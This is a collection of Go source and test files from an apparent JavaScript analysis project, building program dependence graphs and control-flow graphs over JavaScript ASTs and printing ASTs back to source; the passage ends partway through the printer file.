func TestControlDependence(t *testing.T) {
	g := build(t, "if (x) { a(); b(); }")
	if countEdges(g, ControlDep) != 2 {
		t.Fatalf("control edges = %d, want 2 (if -> a, if -> b)", countEdges(g, ControlDep))
	}
	for _, e := range g.Edges {
		if e.Kind == ControlDep && g.Nodes[e.From].Kind != "IfStatement" {
			t.Errorf("control edge from %s", g.Nodes[e.From].Kind)
		}
	}
}

func TestNestedControlDependence(t *testing.T) {
	g := build(t, "while (m) { if (x) { a(); } }")
	// if depends on while; a() depends on if.
	wantPairs := map[[2]string]bool{
		{"WhileStatement", "IfStatement"}:      false,
		{"IfStatement", "ExpressionStatement"}: false,
	}
	for _, e := range g.Edges {
		if e.Kind != ControlDep {
			continue
		}
		key := [2]string{g.Nodes[e.From].Kind, g.Nodes[e.To].Kind}
		if _, ok := wantPairs[key]; ok {
			wantPairs[key] = true
		}
	}
	for pair, seen := range wantPairs {
		if !seen {
			t.Errorf("missing control edge %v", pair)
		}
	}
}

func TestDataDependence(t *testing.T) {
	g := build(t, "var x = 1;\nuse(x);")
	if countEdges(g, DataDep) != 1 {
		t.Fatalf("data edges = %d, want 1", countEdges(g, DataDep))
	}
	e := g.Edges[len(g.Edges)-1]
	for _, edge := range g.Edges {
		if edge.Kind == DataDep {
			e = edge
		}
	}
	if e.Var != "x" {
		t.Errorf("data edge var = %q", e.Var)
	}
	if g.Nodes[e.From].Kind != "VariableDeclaration" {
		t.Errorf("data edge from %s", g.Nodes[e.From].Kind)
	}
}

func TestDataEdgesDeduplicated(t *testing.T) {
	g := build(t, "var x = 1;\nuse(x + x + x);")
	if n := countEdges(g, DataDep); n != 1 {
		t.Errorf("data edges = %d, want 1 (deduplicated per statement pair)", n)
	}
}

func TestSuccessorsFilterByKind(t *testing.T) {
	g := build(t, "var y = 2;\nif (y) { f(y); }")
	declID := -1
	for _, n := range g.Nodes {
		if n.Kind == "VariableDeclaration" {
			declID = n.ID
		}
	}
	if declID == -1 {
		t.Fatal("no declaration node")
	}
	data := g.Successors(declID, DataDep)
	if len(data) == 0 {
		t.Error("no data successors of the declaration")
	}
	all := g.Successors(declID, 0)
	if len(all) < len(data) {
		t.Error("kind 0 should include all kinds")
	}
}

func TestNodeOfUnknownStatement(t *testing.T) {
	g := build(t, "a();")
	if g.NodeOf(nil) != -1 {
		t.Error("NodeOf(nil) should be -1")
	}
}

func TestFunctionBodiesIncluded(t *testing.T) {
	g := build(t, "function f() { var q = 1; return q; }")
	kinds := make(map[string]int)
	for _, n := range g.Nodes {
		kinds[n.Kind]++
	}
	if kinds["VariableDeclaration"] != 1 || kinds["ReturnStatement"] != 1 {
		t.Errorf("function body nodes missing: %v", kinds)
	}
	if countEdges(g, DataDep) == 0 {
		t.Error("q def-use edge missing inside function")
	}
}

func TestSwitchCaseControlDependence(t *testing.T) {
	g := build(t, "switch (x) { case 1: a(); }")
	found := false
	for _, e := range g.Edges {
		if e.Kind == ControlDep && g.Nodes[e.From].Kind == "SwitchStatement" {
			found = true
		}
	}
	if !found {
		t.Error("case body not control-dependent on switch")
	}
}
