// Package pdg builds a program dependence graph over the statement level of
// a JavaScript AST: control-dependence edges derived from the syntactic
// nesting of control structures plus data-dependence edges from the
// def-use analysis in internal/js/dataflow. This is the code abstraction
// the JSTAP baseline extracts its n-gram features from.
package pdg

import (
	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/dataflow"
)

// EdgeKind discriminates control from data dependence.
type EdgeKind int

// Edge kinds.
const (
	ControlDep EdgeKind = iota + 1
	DataDep
)

// Node is one PDG node, wrapping a statement.
type Node struct {
	// ID is the node's index in Graph.Nodes.
	ID int
	// Stmt is the underlying statement.
	Stmt ast.Statement
	// Kind is the statement's ESTree type name.
	Kind string
}

// Edge is a directed dependence edge between statements.
type Edge struct {
	From, To int
	Kind     EdgeKind
	// Var names the variable for data edges.
	Var string
}

// Graph is the program dependence graph.
type Graph struct {
	Nodes []*Node
	Edges []Edge
	// index maps a statement to its node ID.
	index map[ast.Statement]int
}

// NodeOf returns the PDG node ID of a statement, or -1.
func (g *Graph) NodeOf(s ast.Statement) int {
	if id, ok := g.index[s]; ok {
		return id
	}
	return -1
}

// Successors returns the IDs reachable from id via edges of the given kind
// (or any kind when kind is 0).
func (g *Graph) Successors(id int, kind EdgeKind) []int {
	var out []int
	for _, e := range g.Edges {
		if e.From == id && (kind == 0 || e.Kind == kind) {
			out = append(out, e.To)
		}
	}
	return out
}

// Build constructs the PDG of a program.
func Build(prog *ast.Program) *Graph {
	g := &Graph{index: make(map[ast.Statement]int)}

	// Collect statement nodes in traversal order.
	addStmt := func(s ast.Statement) int {
		if id, ok := g.index[s]; ok {
			return id
		}
		n := &Node{ID: len(g.Nodes), Stmt: s, Kind: s.Type()}
		g.Nodes = append(g.Nodes, n)
		g.index[s] = n.ID
		return n.ID
	}

	// Control dependences: a statement is control-dependent on the nearest
	// enclosing control-structure statement.
	var visit func(s ast.Statement, controller ast.Statement)
	visitList := func(list []ast.Statement, controller ast.Statement) {
		for _, s := range list {
			visit(s, controller)
		}
	}
	visit = func(s ast.Statement, controller ast.Statement) {
		if s == nil {
			return
		}
		// Blocks are transparent: they group statements but are not PDG
		// nodes themselves.
		if blk, ok := s.(*ast.BlockStatement); ok {
			visitList(blk.Body, controller)
			return
		}
		id := addStmt(s)
		if controller != nil {
			cid := addStmt(controller)
			g.Edges = append(g.Edges, Edge{From: cid, To: id, Kind: ControlDep})
		}
		switch n := s.(type) {
		case *ast.IfStatement:
			visit(n.Consequent, s)
			visit(n.Alternate, s)
		case *ast.WhileStatement:
			visit(n.Body, s)
		case *ast.DoWhileStatement:
			visit(n.Body, s)
		case *ast.ForStatement:
			visit(n.Body, s)
		case *ast.ForInStatement:
			visit(n.Body, s)
		case *ast.SwitchStatement:
			for _, c := range n.Cases {
				visitList(c.Consequent, s)
			}
		case *ast.TryStatement:
			visit(n.Block, s)
			if n.Handler != nil {
				visit(n.Handler.Body, s)
			}
			if n.Finalizer != nil {
				visit(n.Finalizer, s)
			}
		case *ast.LabeledStatement:
			visit(n.Body, controller)
		case *ast.WithStatement:
			visit(n.Body, s)
		case *ast.FunctionDeclaration:
			visitList(n.Body.Body, s)
		}
	}
	visitList(prog.Body, nil)

	// Function expression bodies are nested inside expression statements;
	// give their statements control dependence on the enclosing statement.
	ast.WalkWithParent(prog, func(n, parent ast.Node) bool {
		fe, ok := n.(*ast.FunctionExpression)
		if !ok {
			return true
		}
		// Find the nearest recorded statement ancestor by scanning the index;
		// fall back to no controller.
		for _, st := range fe.Body.Body {
			if _, seen := g.index[st]; !seen {
				visit(st, nil)
			}
		}
		return true
	})

	// Data dependences from the def-use analysis, lifted to statement level.
	info := dataflow.Analyze(prog)
	seen := make(map[[2]int]bool)
	for _, e := range info.Edges {
		from := g.NodeOf(e.Def.Stmt)
		to := g.NodeOf(e.Use.Stmt)
		if from < 0 || to < 0 || from == to {
			continue
		}
		key := [2]int{from, to}
		if seen[key] {
			continue
		}
		seen[key] = true
		g.Edges = append(g.Edges, Edge{From: from, To: to, Kind: DataDep, Var: e.Name})
	}
	return g
}
