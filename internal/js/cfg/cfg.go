// Package cfg builds an intraprocedural control-flow graph over the
// statement level of a JavaScript AST. It is the control-flow substrate for
// the JSTAP baseline, whose PDG abstraction extends the AST with control and
// data flow edges.
package cfg

import (
	"jsrevealer/internal/js/ast"
)

// Node is one CFG node, wrapping a statement.
type Node struct {
	// ID is the node's index in Graph.Nodes.
	ID int
	// Stmt is the underlying statement (nil for the synthetic entry/exit).
	Stmt ast.Statement
	// Kind is the node's statement type name, or "Entry"/"Exit".
	Kind string
	// Succs are the IDs of control-flow successors.
	Succs []int
}

// Graph is a control-flow graph for one function body or the top level.
type Graph struct {
	Nodes []*Node
	// Entry and Exit are the synthetic boundary node IDs.
	Entry, Exit int
}

// EdgeCount returns the number of control-flow edges.
func (g *Graph) EdgeCount() int {
	n := 0
	for _, node := range g.Nodes {
		n += len(node.Succs)
	}
	return n
}

// Build constructs the CFG of the program's top level plus, inlined in
// traversal order, the bodies of all declared functions (each function's
// body is bracketed by its own entry/exit-like region connected only
// internally, keeping the analysis intraprocedural while still covering all
// code, which is what JSTAP's feature extraction wants).
func Build(prog *ast.Program) *Graph {
	b := &builder{}
	entry := b.newNode(nil, "Entry")
	exit := b.newNode(nil, "Exit")
	b.exitID = exit.ID

	last := b.sequence(prog.Body, []int{entry.ID}, loopCtx{})
	b.connect(last, exit.ID)

	// Function bodies, each as its own region.
	var fnBodies []*ast.BlockStatement
	ast.Walk(prog, func(n ast.Node) bool {
		switch f := n.(type) {
		case *ast.FunctionDeclaration:
			fnBodies = append(fnBodies, f.Body)
		case *ast.FunctionExpression:
			fnBodies = append(fnBodies, f.Body)
		}
		return true
	})
	for _, body := range fnBodies {
		fe := b.newNode(nil, "Entry")
		fx := b.newNode(nil, "Exit")
		savedExit := b.exitID
		b.exitID = fx.ID
		lastF := b.sequence(body.Body, []int{fe.ID}, loopCtx{})
		b.connect(lastF, fx.ID)
		b.exitID = savedExit
	}

	return &Graph{Nodes: b.nodes, Entry: entry.ID, Exit: exit.ID}
}

type loopCtx struct {
	// breakTargets collects node IDs that break jumps should land on, filled
	// by pointer so nested statements can register.
	breakOut *[]int
	// continueTarget is the loop-head node ID (-1 when absent).
	continueTarget int
	hasLoop        bool
}

type builder struct {
	nodes  []*Node
	exitID int
}

func (b *builder) newNode(stmt ast.Statement, kind string) *Node {
	n := &Node{ID: len(b.nodes), Stmt: stmt, Kind: kind}
	b.nodes = append(b.nodes, n)
	return n
}

// connect draws an edge from every node in from to the target.
func (b *builder) connect(from []int, to int) {
	for _, f := range from {
		b.nodes[f].Succs = append(b.nodes[f].Succs, to)
	}
}

// sequence threads control flow through a statement list, returning the set
// of dangling exits.
func (b *builder) sequence(stmts []ast.Statement, in []int, lc loopCtx) []int {
	cur := in
	for _, s := range stmts {
		cur = b.stmt(s, cur, lc)
	}
	return cur
}

// stmt wires one statement and returns its dangling exits.
func (b *builder) stmt(s ast.Statement, in []int, lc loopCtx) []int {
	switch n := s.(type) {
	case *ast.BlockStatement:
		return b.sequence(n.Body, in, lc)
	case *ast.IfStatement:
		cond := b.newNode(s, "IfStatement")
		b.connect(in, cond.ID)
		thenOut := b.stmt(n.Consequent, []int{cond.ID}, lc)
		if n.Alternate != nil {
			elseOut := b.stmt(n.Alternate, []int{cond.ID}, lc)
			return append(thenOut, elseOut...)
		}
		return append(thenOut, cond.ID)
	case *ast.WhileStatement, *ast.DoWhileStatement, *ast.ForStatement, *ast.ForInStatement:
		head := b.newNode(s, s.Type())
		b.connect(in, head.ID)
		var breaks []int
		inner := loopCtx{breakOut: &breaks, continueTarget: head.ID, hasLoop: true}
		var body ast.Statement
		switch v := n.(type) {
		case *ast.WhileStatement:
			body = v.Body
		case *ast.DoWhileStatement:
			body = v.Body
		case *ast.ForStatement:
			body = v.Body
		case *ast.ForInStatement:
			body = v.Body
		}
		bodyOut := b.stmt(body, []int{head.ID}, inner)
		b.connect(bodyOut, head.ID) // back edge
		return append(breaks, head.ID)
	case *ast.SwitchStatement:
		head := b.newNode(s, "SwitchStatement")
		b.connect(in, head.ID)
		var breaks []int
		inner := lc
		inner.breakOut = &breaks
		out := []int{head.ID}
		fall := []int(nil)
		hasDefault := false
		for _, c := range n.Cases {
			if c.Test == nil {
				hasDefault = true
			}
			caseIn := append([]int{head.ID}, fall...)
			fall = b.sequence(c.Consequent, caseIn, inner)
		}
		out = append(out, fall...)
		if hasDefault {
			out = fall
		}
		return append(out, breaks...)
	case *ast.BreakStatement:
		node := b.newNode(s, "BreakStatement")
		b.connect(in, node.ID)
		if lc.breakOut != nil {
			*lc.breakOut = append(*lc.breakOut, node.ID)
		}
		return nil
	case *ast.ContinueStatement:
		node := b.newNode(s, "ContinueStatement")
		b.connect(in, node.ID)
		if lc.hasLoop && lc.continueTarget >= 0 {
			b.nodes[node.ID].Succs = append(b.nodes[node.ID].Succs, lc.continueTarget)
		}
		return nil
	case *ast.ReturnStatement, *ast.ThrowStatement:
		node := b.newNode(s, s.Type())
		b.connect(in, node.ID)
		b.nodes[node.ID].Succs = append(b.nodes[node.ID].Succs, b.exitID)
		return nil
	case *ast.TryStatement:
		node := b.newNode(s, "TryStatement")
		b.connect(in, node.ID)
		out := b.stmt(n.Block, []int{node.ID}, lc)
		if n.Handler != nil {
			hOut := b.stmt(n.Handler.Body, []int{node.ID}, lc)
			out = append(out, hOut...)
		}
		if n.Finalizer != nil {
			out = b.stmt(n.Finalizer, out, lc)
		}
		return out
	case *ast.LabeledStatement:
		return b.stmt(n.Body, in, lc)
	case *ast.WithStatement:
		node := b.newNode(s, "WithStatement")
		b.connect(in, node.ID)
		return b.stmt(n.Body, []int{node.ID}, lc)
	default:
		node := b.newNode(s, s.Type())
		b.connect(in, node.ID)
		return []int{node.ID}
	}
}
