package cfg

import (
	"testing"

	"jsrevealer/internal/js/parser"
)

func build(t *testing.T, src string) *Graph {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return Build(prog)
}

// kinds tallies node kinds.
func kinds(g *Graph) map[string]int {
	out := make(map[string]int)
	for _, n := range g.Nodes {
		out[n.Kind]++
	}
	return out
}

// succs returns the successor kinds of the first node of the given kind.
func succs(g *Graph, kind string) []string {
	for _, n := range g.Nodes {
		if n.Kind == kind {
			var out []string
			for _, s := range n.Succs {
				out = append(out, g.Nodes[s].Kind)
			}
			return out
		}
	}
	return nil
}

func TestStraightLine(t *testing.T) {
	g := build(t, "a();\nb();\nc();")
	k := kinds(g)
	if k["ExpressionStatement"] != 3 {
		t.Fatalf("expression nodes = %d", k["ExpressionStatement"])
	}
	// Entry -> a -> b -> c -> Exit: 4 edges.
	if g.EdgeCount() != 4 {
		t.Errorf("edges = %d, want 4", g.EdgeCount())
	}
}

func TestIfBranches(t *testing.T) {
	g := build(t, "if (x) { a(); } else { b(); }\nc();")
	ifSuccs := succs(g, "IfStatement")
	if len(ifSuccs) != 2 {
		t.Fatalf("if successors = %v, want 2 branches", ifSuccs)
	}
	// c() has two predecessors (both branch exits).
	var cID int
	for _, n := range g.Nodes {
		if n.Kind == "ExpressionStatement" {
			cID = n.ID // last one wins: c
		}
	}
	preds := 0
	for _, n := range g.Nodes {
		for _, s := range n.Succs {
			if s == cID {
				preds++
			}
		}
	}
	if preds != 2 {
		t.Errorf("c() predecessors = %d, want 2", preds)
	}
}

func TestIfWithoutElseFallsThrough(t *testing.T) {
	g := build(t, "if (x) { a(); }\nb();")
	ifSuccs := succs(g, "IfStatement")
	// One successor into the branch; the false edge goes directly to b().
	if len(ifSuccs) < 1 {
		t.Fatalf("if successors = %v", ifSuccs)
	}
}

func TestWhileBackEdge(t *testing.T) {
	g := build(t, "while (x) { a(); }\nb();")
	var head *Node
	for _, n := range g.Nodes {
		if n.Kind == "WhileStatement" {
			head = n
		}
	}
	if head == nil {
		t.Fatal("no while node")
	}
	// The loop body must flow back to the head.
	backEdge := false
	for _, n := range g.Nodes {
		if n.Kind == "ExpressionStatement" {
			for _, s := range n.Succs {
				if s == head.ID {
					backEdge = true
				}
			}
		}
	}
	if !backEdge {
		t.Error("no back edge from body to loop head")
	}
}

func TestBreakJumpsOut(t *testing.T) {
	g := build(t, "while (1) { if (x) { break; } a(); }\nafter();")
	k := kinds(g)
	if k["BreakStatement"] != 1 {
		t.Fatalf("break nodes = %d", k["BreakStatement"])
	}
	// The break node's successor set is filled when the loop closes: it must
	// not loop back to the while head.
	for _, n := range g.Nodes {
		if n.Kind == "BreakStatement" && len(n.Succs) > 0 {
			for _, s := range n.Succs {
				if g.Nodes[s].Kind == "WhileStatement" {
					t.Error("break flows back to loop head")
				}
			}
		}
	}
}

func TestContinueTargetsHead(t *testing.T) {
	g := build(t, "while (1) { continue; }")
	found := false
	for _, n := range g.Nodes {
		if n.Kind == "ContinueStatement" {
			for _, s := range n.Succs {
				if g.Nodes[s].Kind == "WhileStatement" {
					found = true
				}
			}
		}
	}
	if !found {
		t.Error("continue does not flow to loop head")
	}
}

func TestReturnFlowsToExit(t *testing.T) {
	g := build(t, "function f() { return 1; unreachable(); }")
	for _, n := range g.Nodes {
		if n.Kind == "ReturnStatement" {
			if len(n.Succs) != 1 || g.Nodes[n.Succs[0]].Kind != "Exit" {
				t.Errorf("return successors: %v", n.Succs)
			}
		}
	}
}

func TestSwitchCases(t *testing.T) {
	g := build(t, "switch (x) { case 1: a(); break; default: b(); }\nc();")
	swSuccs := succs(g, "SwitchStatement")
	if len(swSuccs) < 1 {
		t.Fatalf("switch successors = %v", swSuccs)
	}
}

func TestTryCatchFinallyEdges(t *testing.T) {
	g := build(t, "try { a(); } catch (e) { b(); } finally { c(); }")
	k := kinds(g)
	if k["TryStatement"] != 1 || k["ExpressionStatement"] != 3 {
		t.Fatalf("kinds = %v", k)
	}
	trySuccs := succs(g, "TryStatement")
	if len(trySuccs) != 2 {
		t.Errorf("try successors = %v, want block + handler", trySuccs)
	}
}

func TestFunctionBodiesCovered(t *testing.T) {
	g := build(t, "function f() { inner(); }\nouter();")
	k := kinds(g)
	// Both the top level and f's body contribute statement nodes, plus two
	// Entry/Exit pairs.
	if k["ExpressionStatement"] != 2 {
		t.Errorf("statement nodes = %d, want 2", k["ExpressionStatement"])
	}
	if k["Entry"] != 2 || k["Exit"] != 2 {
		t.Errorf("entry/exit = %d/%d, want 2/2", k["Entry"], k["Exit"])
	}
}

func TestForLoopShape(t *testing.T) {
	g := build(t, "for (var i = 0; i < 3; i++) { a(); }")
	if kinds(g)["ForStatement"] != 1 {
		t.Fatal("no for node")
	}
	forSuccs := succs(g, "ForStatement")
	if len(forSuccs) == 0 {
		t.Error("for head has no successors")
	}
}
