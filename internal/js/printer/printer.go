// Package printer renders an AST back to JavaScript source code.
//
// The output is deterministic, parses back to an equivalent AST, and uses
// parentheses conservatively (precedence-driven) so obfuscated trees print
// correctly.
package printer

import (
	"fmt"
	"strconv"
	"strings"

	"jsrevealer/internal/js/ast"
)

// Print renders the program as JavaScript source.
func Print(p *ast.Program) string {
	w := &writer{}
	for _, s := range p.Body {
		w.stmt(s)
	}
	return w.sb.String()
}

// PrintStatement renders a single statement without a trailing newline.
func PrintStatement(s ast.Statement) string {
	w := &writer{}
	w.stmtInline(s)
	return w.sb.String()
}

// PrintExpression renders a single expression.
func PrintExpression(e ast.Expression) string {
	w := &writer{}
	w.expr(e, 0)
	return w.sb.String()
}

// maxPrintDepth bounds AST recursion while printing. Trees nested deeper
// than anything the parser's own depth limit admits print a placeholder
// (`null` for expressions, `;` for statements) instead of overflowing the
// stack; the output remains parseable.
const maxPrintDepth = 4096

type writer struct {
	sb     strings.Builder
	indent int
	depth  int
}

func (w *writer) ws(s string) { w.sb.WriteString(s) }

func (w *writer) nl() {
	w.ws("\n")
	for i := 0; i < w.indent; i++ {
		w.ws("  ")
	}
}

// exprPrec gives the precedence of an expression node for parenthesization.
// Higher binds tighter.
func exprPrec(e ast.Expression) int {
	switch n := e.(type) {
	case *ast.SequenceExpression:
		return 0
	case *ast.AssignmentExpression:
		return 1
	case *ast.ConditionalExpression:
		return 2
	case *ast.LogicalExpression:
		if n.Operator == "||" {
			return 3
		}
		return 4
	case *ast.BinaryExpression:
		switch n.Operator {
		case "|":
			return 5
		case "^":
			return 6
		case "&":
			return 7
		case "==", "!=", "===", "!==":
			return 8
		case "<", ">", "<=", ">=", "in", "instanceof":
			return 9
		case "<<", ">>", ">>>":
			return 10
		case "+", "-":
			return 11
		default: // * / %
			return 12
		}
	case *ast.UnaryExpression:
		return 13
	case *ast.UpdateExpression:
		if n.Prefix {
			return 13
		}
		return 14
	case *ast.NewExpression:
		return 15
	case *ast.CallExpression:
		return 15
	case *ast.MemberExpression:
		return 16
	default:
		return 17
	}
}

// expr prints e, wrapping in parentheses when its precedence is below the
// minimum the context requires.
func (w *writer) expr(e ast.Expression, minPrec int) {
	if w.depth >= maxPrintDepth {
		w.ws("null")
		return
	}
	w.depth++
	defer func() { w.depth-- }()
	if exprPrec(e) < minPrec {
		w.ws("(")
		w.exprInner(e)
		w.ws(")")
		return
	}
	w.exprInner(e)
}

func (w *writer) exprInner(e ast.Expression) {
	switch n := e.(type) {
	case *ast.Identifier:
		w.ws(n.Name)
	case *ast.Literal:
		w.literal(n)
	case *ast.ThisExpression:
		w.ws("this")
	case *ast.ArrayExpression:
		w.ws("[")
		for i, el := range n.Elements {
			if i > 0 {
				w.ws(", ")
			}
			if el != nil {
				w.expr(el, 1)
			}
		}
		w.ws("]")
	case *ast.ObjectExpression:
		w.objectLiteral(n)
	case *ast.FunctionExpression:
		w.ws("function")
		if n.ID != nil {
			w.ws(" " + n.ID.Name)
		}
		w.params(n.Params)
		w.ws(" ")
		w.block(n.Body)
	case *ast.UnaryExpression:
		w.ws(n.Operator)
		if len(n.Operator) > 1 { // typeof, void, delete
			w.ws(" ")
		} else if u, ok := n.Argument.(*ast.UnaryExpression); ok && u.Operator == n.Operator {
			// avoid `--x` when printing -(-x)
			w.ws(" ")
		}
		w.expr(n.Argument, 13)
	case *ast.UpdateExpression:
		if n.Prefix {
			w.ws(n.Operator)
			w.expr(n.Argument, 13)
		} else {
			w.expr(n.Argument, 14)
			w.ws(n.Operator)
		}
	case *ast.BinaryExpression:
		prec := exprPrec(n)
		w.expr(n.Left, prec)
		w.ws(" " + n.Operator + " ")
		w.expr(n.Right, prec+1)
	case *ast.LogicalExpression:
		prec := exprPrec(n)
		w.expr(n.Left, prec)
		w.ws(" " + n.Operator + " ")
		w.expr(n.Right, prec+1)
	case *ast.AssignmentExpression:
		w.expr(n.Left, 14)
		w.ws(" " + n.Operator + " ")
		w.expr(n.Right, 1)
	case *ast.ConditionalExpression:
		w.expr(n.Test, 3)
		w.ws(" ? ")
		w.expr(n.Consequent, 1)
		w.ws(" : ")
		w.expr(n.Alternate, 1)
	case *ast.CallExpression:
		w.expr(n.Callee, 15)
		w.args(n.Arguments)
	case *ast.NewExpression:
		w.ws("new ")
		w.expr(n.Callee, 16)
		w.args(n.Arguments)
	case *ast.MemberExpression:
		w.memberObject(n.Object)
		if n.Computed {
			w.ws("[")
			w.expr(n.Property, 0)
			w.ws("]")
		} else {
			w.ws(".")
			w.expr(n.Property, 0)
		}
	case *ast.SequenceExpression:
		for i, x := range n.Expressions {
			if i > 0 {
				w.ws(", ")
			}
			w.expr(x, 1)
		}
	default:
		w.ws(fmt.Sprintf("/*?%s?*/", e.Type()))
	}
}

// memberObject prints the object part of a member expression; numeric
// literals need parens so `1 .toString` doesn't lex as a decimal point.
func (w *writer) memberObject(obj ast.Expression) {
	if lit, ok := obj.(*ast.Literal); ok && lit.Kind == ast.LiteralNumber {
		w.ws("(")
		w.exprInner(obj)
		w.ws(")")
		return
	}
	w.expr(obj, 16)
}

func (w *writer) literal(l *ast.Literal) {
	switch l.Kind {
	case ast.LiteralString:
		w.ws(quoteJS(l.StrVal))
	case ast.LiteralNumber:
		if l.Raw != "" {
			w.ws(l.Raw)
		} else {
			w.ws(formatNumber(l.NumVal))
		}
	case ast.LiteralBool:
		if l.BoolVal {
			w.ws("true")
		} else {
			w.ws("false")
		}
	case ast.LiteralNull:
		w.ws("null")
	case ast.LiteralRegExp:
		w.ws(l.StrVal)
	}
}

func (w *writer) objectLiteral(o *ast.ObjectExpression) {
	if len(o.Properties) == 0 {
		w.ws("{}")
		return
	}
	w.ws("{")
	w.indent++
	for i, p := range o.Properties {
		if i > 0 {
			w.ws(",")
		}
		w.nl()
		switch p.Kind {
		case ast.PropertyGet, ast.PropertySet:
			if p.Kind == ast.PropertyGet {
				w.ws("get ")
			} else {
				w.ws("set ")
			}
			w.expr(p.Key, 0)
			fe := p.Value.(*ast.FunctionExpression)
			w.params(fe.Params)
			w.ws(" ")
			w.block(fe.Body)
		default:
			w.expr(p.Key, 0)
			w.ws(": ")
			w.expr(p.Value, 1)
		}
	}
	w.indent--
	w.nl()
	w.ws("}")
}

func (w *writer) params(params []*ast.Identifier) {
	w.ws("(")
	for i, p := range params {
		if i > 0 {
			w.ws(", ")
		}
		w.ws(p.Name)
	}
	w.ws(")")
}

func (w *writer) args(args []ast.Expression) {
	w.ws("(")
	for i, a := range args {
		if i > 0 {
			w.ws(", ")
		}
		w.expr(a, 1)
	}
	w.ws(")")
}

func (w *writer) block(b *ast.BlockStatement) {
	w.ws("{")
	w.indent++
	for _, s := range b.Body {
		w.nl()
		w.stmtInline(s)
	}
	w.indent--
	w.nl()
	w.ws("}")
}

func (w *writer) stmt(s ast.Statement) {
	w.stmtInline(s)
	w.ws("\n")
}

func (w *writer) stmtInline(s ast.Statement) {
	if w.depth >= maxPrintDepth {
		w.ws(";")
		return
	}
	w.depth++
	defer func() { w.depth-- }()
	switch n := s.(type) {
	case *ast.ExpressionStatement:
		// Guard expressions beginning with `{` or `function` so the statement
		// is not misparsed as a block / declaration.
		if startsAmbiguously(n.Expression) {
			w.ws("(")
			w.expr(n.Expression, 0)
			w.ws(")")
		} else {
			w.expr(n.Expression, 0)
		}
		w.ws(";")
	case *ast.BlockStatement:
		w.block(n)
	case *ast.EmptyStatement:
		w.ws(";")
	case *ast.DebuggerStatement:
		w.ws("debugger;")
	case *ast.VariableDeclaration:
		w.varDecl(n)
		w.ws(";")
	case *ast.FunctionDeclaration:
		w.ws("function " + n.ID.Name)
		w.params(n.Params)
		w.ws(" ")
		w.block(n.Body)
	case *ast.ReturnStatement:
		if n.Argument != nil {
			w.ws("return ")
			w.expr(n.Argument, 0)
			w.ws(";")
		} else {
			w.ws("return;")
		}
	case *ast.IfStatement:
		w.ws("if (")
		w.expr(n.Test, 0)
		w.ws(") ")
		w.nestedStmt(n.Consequent)
		if n.Alternate != nil {
			w.ws(" else ")
			w.nestedStmt(n.Alternate)
		}
	case *ast.ForStatement:
		w.ws("for (")
		if n.Init != nil {
			switch init := n.Init.(type) {
			case *ast.VariableDeclaration:
				w.varDecl(init)
			case ast.Expression:
				w.expr(init, 0)
			}
		}
		w.ws("; ")
		if n.Test != nil {
			w.expr(n.Test, 0)
		}
		w.ws("; ")
		if n.Update != nil {
			w.expr(n.Update, 0)
		}
		w.ws(") ")
		w.nestedStmt(n.Body)
	case *ast.ForInStatement:
		w.ws("for (")
		switch left := n.Left.(type) {
		case *ast.VariableDeclaration:
			w.varDecl(left)
		case ast.Expression:
			w.expr(left, 0)
		}
		w.ws(" in ")
		w.expr(n.Right, 0)
		w.ws(") ")
		w.nestedStmt(n.Body)
	case *ast.WhileStatement:
		w.ws("while (")
		w.expr(n.Test, 0)
		w.ws(") ")
		w.nestedStmt(n.Body)
	case *ast.DoWhileStatement:
		w.ws("do ")
		w.nestedStmt(n.Body)
		w.ws(" while (")
		w.expr(n.Test, 0)
		w.ws(");")
	case *ast.BreakStatement:
		if n.Label != nil {
			w.ws("break " + n.Label.Name + ";")
		} else {
			w.ws("break;")
		}
	case *ast.ContinueStatement:
		if n.Label != nil {
			w.ws("continue " + n.Label.Name + ";")
		} else {
			w.ws("continue;")
		}
	case *ast.LabeledStatement:
		w.ws(n.Label.Name + ": ")
		w.stmtInline(n.Body)
	case *ast.SwitchStatement:
		w.ws("switch (")
		w.expr(n.Discriminant, 0)
		w.ws(") {")
		w.indent++
		for _, c := range n.Cases {
			w.nl()
			if c.Test != nil {
				w.ws("case ")
				w.expr(c.Test, 0)
				w.ws(":")
			} else {
				w.ws("default:")
			}
			w.indent++
			for _, cs := range c.Consequent {
				w.nl()
				w.stmtInline(cs)
			}
			w.indent--
		}
		w.indent--
		w.nl()
		w.ws("}")
	case *ast.ThrowStatement:
		w.ws("throw ")
		w.expr(n.Argument, 0)
		w.ws(";")
	case *ast.TryStatement:
		w.ws("try ")
		w.block(n.Block)
		if n.Handler != nil {
			w.ws(" catch (" + n.Handler.Param.Name + ") ")
			w.block(n.Handler.Body)
		}
		if n.Finalizer != nil {
			w.ws(" finally ")
			w.block(n.Finalizer)
		}
	case *ast.WithStatement:
		w.ws("with (")
		w.expr(n.Object, 0)
		w.ws(") ")
		w.nestedStmt(n.Body)
	default:
		w.ws(fmt.Sprintf("/*?%s?*/;", s.Type()))
	}
}

// nestedStmt prints a statement used as a loop/if body, wrapping non-block
// bodies in a block for unambiguous output.
func (w *writer) nestedStmt(s ast.Statement) {
	if b, ok := s.(*ast.BlockStatement); ok {
		w.block(b)
		return
	}
	w.ws("{")
	w.indent++
	w.nl()
	w.stmtInline(s)
	w.indent--
	w.nl()
	w.ws("}")
}

func (w *writer) varDecl(d *ast.VariableDeclaration) {
	w.ws(d.Kind + " ")
	for i, dec := range d.Declarations {
		if i > 0 {
			w.ws(", ")
		}
		w.ws(dec.ID.Name)
		if dec.Init != nil {
			w.ws(" = ")
			w.expr(dec.Init, 1)
		}
	}
}

// startsAmbiguously reports whether printing expr at statement start would be
// misparsed (object literal as block, function expression as declaration).
func startsAmbiguously(e ast.Expression) bool {
	switch n := e.(type) {
	case *ast.ObjectExpression, *ast.FunctionExpression:
		return true
	case *ast.CallExpression:
		return startsAmbiguously(n.Callee)
	case *ast.MemberExpression:
		if obj, ok := n.Object.(ast.Expression); ok {
			return startsAmbiguously(obj)
		}
		return false
	case *ast.BinaryExpression:
		return startsAmbiguously(n.Left)
	case *ast.LogicalExpression:
		return startsAmbiguously(n.Left)
	case *ast.AssignmentExpression:
		return startsAmbiguously(n.Left)
	case *ast.ConditionalExpression:
		return startsAmbiguously(n.Test)
	case *ast.SequenceExpression:
		return len(n.Expressions) > 0 && startsAmbiguously(n.Expressions[0])
	default:
		return false
	}
}

// Quote renders s exactly as the printer renders a string literal value —
// double-quoted with minimal escaping. Normalization passes compare a
// literal's original spelling against this canonical form to decide whether
// re-printing would change it (escape/quote normalization).
